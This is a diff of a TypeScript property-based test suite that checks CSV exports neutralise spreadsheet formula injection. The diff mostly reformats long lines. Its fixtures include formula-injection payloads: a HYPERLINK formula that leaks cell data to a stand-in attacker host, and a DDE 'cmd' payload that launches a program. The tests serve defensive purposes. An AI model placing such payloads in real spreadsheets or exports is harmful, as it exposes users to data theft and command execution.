@@ -26,9 +26,44 @@ function looksLikeFormula(cell: string): boolean {
 /** Text cells of every kind: ordinary text, formula-led text, white space and invisible characters before a trigger, quotes, separators, line breaks. */
 const cell = fc.oneof(
   fc.string({ unit: 'grapheme', maxLength: 20 }),
-  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ',', ';', '\r', '\n', '\t', ' ', '\0', '\u00a0', '\u200b', '\ufeff', '\u202e', '\uFF1D', 'a', '中', '1', "'"), maxLength: 12 }),
+  fc.string({
+    unit: fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '"',
+      ',',
+      ';',
+      '\r',
+      '\n',
+      '\t',
+      ' ',
+      '\0',
+      '\u00a0',
+      '\u200b',
+      '\ufeff',
+      '\u202e',
+      '\uFF1D',
+      'a',
+      '中',
+      '1',
+      "'",
+    ),
+    maxLength: 12,
+  }),
   fc.tuple(fc.constantFrom(...TRIGGERS, ' =', '\u3000+', '\u200b@', '\r\n-', '"='), fc.string({ maxLength: 10 })).map(([a, b]) => a + b),
-  fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1, "Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '-2+3', '+1', 'e-mail', '24(c)', '打击有组织犯罪公约', ''),
+  fc.constantFrom(
+    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+    "=cmd|' /C calc'!A0",
+    '@SUM(1+1)*cmd',
+    '-2+3',
+    '+1',
+    'e-mail',
+    '24(c)',
+    '打击有组织犯罪公约',
+    '',
+  ),
 );
 
 const table = fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 }).map((rows) => {
@@ -84,8 +119,19 @@ describe('CSV formula neutralisation', () => {
       }),
       { numRuns: 300 },
     );
-    const matrix: CitationMatrix = { rows: [{ tag: '+X-15', report: 'report:x', paragraph: 1 }], columns: ['instrument:x'], counts: [[2]], rowTotals: [2], columnTotals: [2], max: 2 };
-    const csv = matrixCsv(matrix, () => '=HYPERLINK("http://evil.example", "x")', () => '-1');
+    const matrix: CitationMatrix = {
+      rows: [{ tag: '+X-15', report: 'report:x', paragraph: 1 }],
+      columns: ['instrument:x'],
+      counts: [[2]],
+      rowTotals: [2],
+      columnTotals: [2],
+      max: 2,
+    };
+    const csv = matrixCsv(
+      matrix,
+      () => '=HYPERLINK("http://evil.example", "x")',
+      () => '-1',
+    );
     expect(csv.split('\r\n')[0]).toBe(`meeting,paragraph,"'=HYPERLINK(""http://evil.example"", ""x"")",total`);
     expect(csv.split('\r\n')[1]).toBe("'+X-15,'-1,2,2");
   });
